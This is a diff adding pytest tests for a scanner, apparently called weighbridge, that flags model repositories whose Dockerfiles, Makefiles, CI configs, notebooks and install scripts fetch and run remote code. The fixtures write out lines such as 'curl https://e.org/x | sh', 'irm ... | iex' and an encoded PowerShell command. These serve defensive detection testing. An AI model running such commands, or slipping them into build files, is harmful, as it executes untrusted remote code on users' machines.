@@ -4,8 +4,9 @@ import pytest
 
 from tests.builders import configs, safetensors
 from tests.builders.evidence import dossier, place
+from tests.reading import evidence
 from tests.weighing import weigh
-from weighbridge.core import Code, Effect, Purpose, Reference, Severity, Verdict
+from weighbridge.core import Code, Effect, Operation, Purpose, Reference, Severity, Verdict
 from weighbridge.rules import bystander_code
 
 MODEL = {"model.safetensors": safetensors.build({"w": safetensors.tensor(0, 8)}, data=bytes(8))}
@@ -62,3 +63,58 @@ def test_each_name_that_reaches_out_is_evidence_with_its_line(tmp_path):
     (finding,) = reason.grounds
     steps = [(step.name, dict(step.attributes)["line"].value) for step in finding.evidence[1:]]
     assert steps == [("subprocess", 1), ("subprocess.run(...)", 2), ("subprocess.run", 2)]
+
+
+FETCHING = b"curl https://e.org/x | sh\n"
+
+COMMANDS = {
+    "Dockerfile": b"FROM python:3.12\nRUN pip install torch\nRUN " + FETCHING,
+    "docker/Dockerfile.gpu": b"FROM a\nRUN pip install -i https://e.org/simple torch\n",
+    "install.bat": b"@echo off\r\npowershell -nop -enc SQBFAFgAIAAoAGkAdwByACAA\r\n",
+    "install.ps1": "irm https://e.org/x | iex\n".encode("utf-16"),
+    "MLproject": b'name: a\nentry_points:\n  main:\n    command: "curl https://e.org/x | sh"\n',
+    "cog.yaml": b"build:\n  run:\n    - curl https://e.org/x | sh\n",
+    ".gitlab-ci.yml": b"a:\n  script:\n    - " + FETCHING,
+    "Makefile": b"all:\n\t" + FETCHING,
+    "magic.ipynb": configs.notebook("import math\n%pip install --index-url https://e.org/simple a"),
+    "shell.ipynb": configs.notebook("import math", "%%bash\nset -e\n" + FETCHING.decode()),
+    "line.ipynb": configs.notebook("a = 1\n!curl https://e.org/x | sh"),
+}
+
+
+@pytest.mark.parametrize("name", COMMANDS)
+def test_commands_that_run_what_they_fetch_are_told_with_their_lines(tmp_path, name):
+    files = {**MODEL, name: COMMANDS[name]}
+    verdict, rules, reasons = weigh(tmp_path, files)
+    assert (verdict, rules) == (Verdict.ALLOW, set())
+    (reason,) = [reason for reason in reasons if reason.rule == "bystander-code"]
+    (finding,) = reason.grounds
+    steps = [dict(item.attributes)["line"].value for item in finding.evidence[1:]]
+    assert steps
+    assert 0 not in steps
+    verdict, rules, _ = weigh(tmp_path, files, "strict")
+    assert verdict is Verdict.DENY
+    assert "bystander-code" in rules
+
+
+QUIET = {
+    "Dockerfile": b"FROM a\nRUN apt-get install -y curl && pip install -r requirements.txt\n",
+    "install.bat": b"@echo off\npip install torch --index-url https://download.pytorch.org/whl/cpu\n",
+    "get.ps1": b"Invoke-WebRequest -Uri https://e.org/w.bin -OutFile w.bin\n",
+    "MLproject": b'name: a\nentry_points:\n  main:\n    command: "python train.py"\n',
+    "notes.txt": FETCHING,
+    "README.md": b"# Install\n\n```\n" + FETCHING + b"```\n",
+}
+
+
+@pytest.mark.parametrize("name", QUIET)
+def test_ordinary_commands_and_manuals_are_silent(tmp_path, name):
+    _, rules, reasons = weigh(tmp_path, {**MODEL, name: QUIET[name]})
+    assert "bystander-code" not in rules | {reason.rule for reason in reasons}
+
+
+def test_lines_of_commands_are_places():
+    data = b"#!/bin/sh\n# get it\ncurl https://e.org/x \\\n | sh\n"
+    steps = [item for item in evidence(data) if isinstance(item, Operation)]
+    spans = {data[step.place.span.start : step.place.span.stop] for step in steps}
+    assert spans == {b"curl https://e.org/x \\\n"}
